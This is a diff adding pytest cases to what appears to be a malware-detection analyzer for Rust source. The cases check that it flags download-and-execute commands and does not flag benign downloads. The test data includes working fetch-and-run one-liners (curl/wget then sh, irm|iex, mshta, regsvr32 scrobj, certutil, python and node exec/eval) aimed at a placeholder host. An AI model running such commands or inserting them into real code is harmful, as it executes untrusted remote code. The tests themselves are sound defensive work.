@@ -151,6 +151,62 @@ def test_more_clients_and_switches(code: str, rule: str) -> None:
     assert rule in [e.rule for e in analyze_file("src/lib.rs", source, Context.LIBRARY).evidence]
 
 
+@pytest.mark.parametrize(
+    ("command", "rule"),
+    [
+        ("(curl -o f https://x.example/y; ./f)", "threat-download-execute-command"),
+        (
+            "curl -sSfo /tmp/i.sh https://x.example && sh /tmp/i.sh",
+            "threat-download-execute-command",
+        ),
+        (
+            "wget -O $T/a https://x.example/a && chmod +x $T/a && $T/a",
+            "threat-download-execute-command",
+        ),
+        ("irm https://x.example/a.ps1 | iex", "threat-download-execute-command"),
+        (
+            "python3 -c \"import urllib.request as u; d = u.urlopen('https://x.example').read()"
+            '; exec(d)"',
+            "threat-download-execute-command",
+        ),
+        (
+            "node -e \"require('https').get('https://x.example',"
+            " r => r.on('data', d => eval(d)))\"",
+            "threat-download-execute-command",
+        ),
+        ("mshta https://x.example/a.hta", "threat-download-execute-command"),
+        (
+            "regsvr32 /s /n /u /i:https://x.example/a.sct scrobj.dll",
+            "threat-download-execute-command",
+        ),
+        (
+            "certutil -urlcache -f https://x.example/a.exe a.exe && start a.exe",
+            "threat-download-execute-command",
+        ),
+        ("powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", "threat-powershell-encoded"),
+        ("WDAGUtilityAccount", "threat-sandbox-check"),
+    ],
+)
+def test_commands_that_fetch_and_run(command: str, rule: str) -> None:
+    source = f'const C: &str = r#"{command}"#;\n'.encode()
+    assert rule in [e.rule for e in analyze_file("src/lib.rs", source, Context.LIBRARY).evidence]
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl -o out.json https://x.example/api && jq . out.json",
+        "wget https://x.example/b.tar.gz -O b.tgz && tar xf b.tgz",
+        "pwsh -Command Get-Date",
+        "sandbox",
+    ],
+)
+def test_commands_that_fetch_and_do_not_run(command: str) -> None:
+    source = f'const C: &str = r#"{command}"#;\n'.encode()
+    threats = [e.rule for e in analyze_file("src/lib.rs", source, Context.LIBRARY).evidence]
+    assert [r for r in threats if r.startswith("threat-")] == []
+
+
 def test_test_runner_setup_scripts_and_template_hooks_run_commands(tmp_path: Path) -> None:
     """cargo-nextest runs its setup scripts before the tests; cargo-generate runs a
     template's hooks when a project is made, and one may move Rust into place."""
